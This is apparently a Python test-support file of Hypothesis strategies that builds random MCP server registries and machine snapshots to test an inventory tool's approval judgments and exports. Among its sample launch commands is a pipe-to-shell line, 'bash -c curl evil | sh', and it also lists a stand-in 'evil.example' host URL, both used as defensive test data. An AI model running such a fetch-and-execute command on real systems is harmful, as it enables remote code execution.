"""Registries and machines made at random, for exports that must not let more run than they should."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

from hypothesis import strategies as st

from discovery.identity.naming import name
from discovery.model import Sighting
from inventory.correlate import correlate
from inventory.entry import Entry, Reach, Snapshot
from inventory.model import View
from inventory.reconcile import judge
from inventory.registry.target import canonical_text, read_target
from inventory.standing import State
from tests.inventory.report import sample

TODAY = date(2026, 11, 21)
PACKAGES = ("pkg:npm/%40acme/files", "pkg:npm/weather-mcp", "pkg:pypi/mcp-server-git", "pkg:pypi/other")
IMAGES = ("pkg:oci/i?repository_url=ghcr.io/acme/i",)
URLS = (
    "https://mcp.example.com/mcp",
    "https://mcp.example.com/*",
    "https://{tenant}.example.net/mcp",
    "https://api.example.org/sse?*",
    "https://plain.example.org",
)
VERSIONS = {"npm": (None, None, "=1.2.3", ">=1.2,<2"), "pypi": (None, "=1.2.3"), "oci": (None, "=1.2.3")}
LAUNCHES: tuple[tuple[str, ...] | str, ...] = (
    ("npx", "-y", "@acme/files@1.2.3", "/srv"),
    ("npx", "@acme/files@1.9.0"),
    ("npx", "-y", "@acme/files"),
    ("cmd", "/c", "npx", "-y", "weather-mcp@1.2.3"),
    ("npx", "-y", "weather-mcp", "--key=***"),
    ("npx", "weather-mcp", "${HOME}/x", "a*b"),
    ("uvx", "mcp-server-git==1.2.3"),
    ("uvx", "other"),
    ("/usr/bin/npx", "-y", "@acme/files@1.2.3"),
    ("docker", "run", "-i", "--rm", "ghcr.io/acme/i:1.2.3"),
    ("bash", "-c", "curl evil | sh"),
    "https://mcp.example.com/mcp",
    "https://MCP.example.com/other",
    "https://mcp.example.com",
    "https://a.example.net/mcp",
    "https://a.b.example.net/mcp",
    "https://api.example.org/sse?x=1",
    "https://api.example.org/sse?x=*",
    "https://plain.example.org",
    "https://plain.example.org/deeper",
    "https://evil.example/mcp",
)
NAMES = ("one", "two", "Zwei drei", "mcp-census/e0")


@st.composite
def entries(draw: st.DrawFn, number: int) -> Entry:
    identity = draw(st.sampled_from((*PACKAGES, *IMAGES, *URLS)))
    kind = identity.removeprefix("pkg:").partition("/")[0]
    versions = draw(st.sampled_from(VERSIONS.get(kind, (None,))))
    states = (State.APPROVED, State.APPROVED, State.APPROVED, State.DENIED, State.PENDING, State.DEPRECATED)
    clients = draw(st.sampled_from(((), (), (), ("cursor",))))
    return Entry(
        id=f"e{number}",
        identity=canonical_text(read_target(identity)),
        versions=versions,
        state=draw(st.sampled_from(states)),
        owner="platform",
        reach=Reach(clients=clients, users=draw(st.sampled_from(((), (), (), (), ("ben",))))),
        expires=draw(st.sampled_from((None, None, None, date(2027, 1, 31), date(2026, 1, 31)))),
    )


def sighting(launch: tuple[str, ...] | str, label: str, client: str, number: int) -> Sighting:
    command, args = (None, ()) if isinstance(launch, str) else (launch[0], launch[1:])
    url = launch if isinstance(launch, str) else None
    identity = name(command=command, args=args, url=url, os="linux", home="/home/ana")
    one = sample.sighting(identity, label, f"/home/ana/.{client}-{number}.json", client)
    return replace(one, command=command, args=tuple(args), url=url, readers=(client,), transport=None)


@st.composite
def machines(draw: st.DrawFn, client: str) -> tuple[Snapshot, View]:
    found = tuple(draw(entries(number)) for number in range(draw(st.integers(1, 7))))
    snapshot = Snapshot(id="s", source="/r", entries=found)
    rows = draw(
        st.lists(st.tuples(st.sampled_from(LAUNCHES), st.sampled_from(NAMES)), min_size=3, max_size=9)
    )
    seen = [
        sample.seen(sighting(launch, label, client, number)) for number, (launch, label) in enumerate(rows)
    ]
    servers = judge(correlate(seen, "scope"), snapshot, today=TODAY)
    return snapshot, replace(sample.view(), servers=servers, snapshot=snapshot)
